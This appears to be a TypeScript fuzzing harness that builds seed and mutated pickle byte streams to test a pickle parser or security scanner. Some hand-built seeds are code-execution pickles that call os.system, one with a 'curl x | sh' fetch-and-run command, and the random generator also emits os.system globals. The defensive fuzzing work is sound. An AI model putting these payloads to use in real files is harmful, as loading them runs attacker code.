/**
 * Inputs for fuzzing the pickle machine: real and hand-built seed pickles,
 * mutated the ways that break parsers (bit flips, inserted opcodes with
 * hostile arguments, cut and duplicated ranges, splices of two seeds), plus
 * opcode-biased random streams. Deterministic for a given seed.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as b from '../builders/pickle.ts';

const { op } = b;

const FIXTURE_DIRECTORY = join(import.meta.dirname, '..', 'fixtures', 'pickle');

/** The global whose BUILD the fuzz campaign pauses after (joblib's array wrapper). */
export const JOBLIB_WRAPPER = { module: 'joblib.numpy_pickle', name: 'NumpyArrayWrapper' };

/** Every opcode byte of protocols 0-5. */
const OPCODES: number[] = Object.entries(op)
  .filter(([name]) => name.startsWith('OP_'))
  .map(([, value]) => value as number);

/** Interesting argument values: boundaries of every length field width. */
const EDGE_U32 = [0, 1, 0x7f, 0x80, 0xff, 0x100, 0xffff, 0x10000, 0x7fffffff, 0x80000000, 0xffffffff];

/** Seeds: the committed fixtures up to `maxFixtureBytes` and hand-built pickles covering every opcode. */
export function loadSeeds(maxFixtureBytes = 16_384): Uint8Array[] {
  const seeds: Uint8Array[] = [];
  for (const name of readdirSync(FIXTURE_DIRECTORY)) {
    if (!/\.(pkl|pt)$/.test(name)) continue;
    const bytes = new Uint8Array(readFileSync(join(FIXTURE_DIRECTORY, name)));
    if (bytes.length <= maxFixtureBytes) seeds.push(bytes);
  }
  seeds.push(
    b.payload('os', 'system', 'curl x | sh'),
    b.pickle(b.proto(4), b.framed(b.shortBinUnicode('os'), b.memoize(), b.shortBinUnicode('system'), b.memoize(), b.stackGlobal(), b.binget(0), b.tuple1(), b.reduce(), b.stop())),
    b.pickle(b.mark(), b.string('id'), b.inst('os', 'system'), b.stop()),
    b.pickle(b.mark(), b.global('os', 'system'), b.unicode('id'), b.obj(), b.pop(), b.none(), b.stop()),
    b.pickle(b.proto(2), b.ext1(1), b.ext2(2), b.ext4(3), b.tuple3(), b.stop()),
    b.pickle(b.proto(5), b.nextBuffer(), b.readonlyBuffer(), b.bytearray8([1, 2, 3]), b.emptySet(), b.mark(), b.binint(5), b.additems(), b.frozenset(), b.stop()),
    b.pickle(b.persid('0'), b.mark(), b.binunicode('storage'), b.global('torch', 'FloatStorage'), b.binunicode('0'), b.binunicode('cpu'), b.binint1(6), b.tuple(), b.binpersid(), b.tuple2(), b.stop()),
    b.pickle(b.put(1), b.get(1), b.long('5L'), b.int('01'), b.float('1.5'), b.binfloat(2.5), b.long1(-300n), b.long4(2n ** 70n), b.dup(), b.popMark(), b.stop()),
    b.pickle(b.proto(3), b.emptyDict(), b.mark(), b.shortBinstring('k'), b.binbytes([1, 2]), b.binstring('v'), b.shortBinbytes([3]), b.setitems(), b.list(), b.dict(), b.stop()),
    b.pickle(b.proto(4), b.global('m', 'f'), b.emptyTuple(), b.emptyDict(), b.newobjEx(), b.binunicode8('x'), b.build(), b.stop(), b.binint1(1), b.stop()),
    b.pickle(
      b.proto(2),
      b.emptyList(),
      b.global(JOBLIB_WRAPPER.module, JOBLIB_WRAPPER.name),
      b.emptyTuple(),
      b.newobj(),
      b.mark(), b.shortBinUnicode('shape'), b.binint1(3), b.tuple1(), b.dict(),
      b.build(),
      b.raw(2, 0xff, 0xff, 1, 2, 3, 4, 5, 6),
      b.append(),
      b.stop(),
    ),
  );
  return seeds;
}

/** One random opcode with a random (often hostile) argument. */
function randomOpcode(random: () => number): Uint8Array {
  const code = OPCODES[Math.floor(random() * OPCODES.length)];
  const edge = () => EDGE_U32[Math.floor(random() * EDGE_U32.length)];
  const small = () => Math.floor(random() * 8);
  switch (code) {
    case op.OP_FRAME:
      return b.frame(random() < 0.5 ? small() : edge());
    case op.OP_BINBYTES8:
      return b.binbytes8Header(random() < 0.7 ? small() : edge());
    case op.OP_BINUNICODE8:
      return b.binunicode8Header(random() < 0.7 ? small() : random() < 0.5 ? edge() : 2n ** 63n + 5n);
    case op.OP_BYTEARRAY8:
      return b.bytearray8Header(random() < 0.7 ? small() : edge());
    case op.OP_PROTO:
      return b.proto(Math.floor(random() * 8));
    case op.OP_GLOBAL:
      return b.global(random() < 0.5 ? 'os' : '', random() < 0.5 ? 'system' : '\xff');
    case op.OP_INST:
      return b.inst('os', 'system');
    case op.OP_STRING:
      return b.stringLine(random() < 0.5 ? "'x'" : 'x');
    case op.OP_BINGET:
    case op.OP_BINPUT:
    case op.OP_EXT1:
      return b.pickle([code, small()]);
    default: {
      const width = Math.floor(random() * 5);
      const argument: number[] = [];
      const value = random() < 0.5 ? small() : edge();
      for (let index = 0; index < width; index++) argument.push((value >>> (8 * index)) & 0xff);
      return b.pickle([code], argument);
    }
  }
}

/** A mutated copy of `seed` (one to four mutations). */
export function mutate(seed: Uint8Array, seeds: Uint8Array[], random: () => number): Uint8Array {
  let bytes = seed;
  const rounds = 1 + Math.floor(random() * 4);
  for (let round = 0; round < rounds; round++) {
    const at = Math.floor(random() * (bytes.length + 1));
    switch (Math.floor(random() * 7)) {
      case 0: {
        if (bytes.length === 0) break;
        bytes = bytes.slice();
        bytes[Math.min(at, bytes.length - 1)] ^= 1 << Math.floor(random() * 8);
        break;
      }
      case 1: {
        if (bytes.length === 0) break;
        bytes = bytes.slice();
        bytes[Math.min(at, bytes.length - 1)] = Math.floor(random() * 256);
        break;
      }
      case 2:
        bytes = b.pickle(bytes.subarray(0, at), randomOpcode(random), bytes.subarray(at));
        break;
      case 3: {
        const length = Math.floor(random() * 16);
        bytes = b.pickle(bytes.subarray(0, at), bytes.subarray(Math.min(bytes.length, at + length)));
        break;
      }
      case 4: {
        const length = Math.floor(random() * 32);
        bytes = b.pickle(bytes.subarray(0, at), bytes.subarray(at, at + length), bytes.subarray(at));
        break;
      }
      case 5:
        bytes = bytes.subarray(0, at);
        break;
      default: {
        const other = seeds[Math.floor(random() * seeds.length)];
        const from = Math.floor(random() * (other.length + 1));
        bytes = b.pickle(bytes.subarray(0, at), other.subarray(from));
      }
    }
  }
  return bytes;
}

/** A random stream built from opcodes (most valid, some raw bytes). */
export function randomPickle(random: () => number): Uint8Array {
  const parts: Uint8Array[] = [];
  if (random() < 0.7) parts.push(b.proto(Math.floor(random() * 6)));
  const count = Math.floor(random() * 40);
  for (let index = 0; index < count; index++) {
    parts.push(random() < 0.9 ? randomOpcode(random) : b.raw(Math.floor(random() * 256)));
  }
  if (random() < 0.8) parts.push(b.stop());
  return b.pickle(...parts);
}
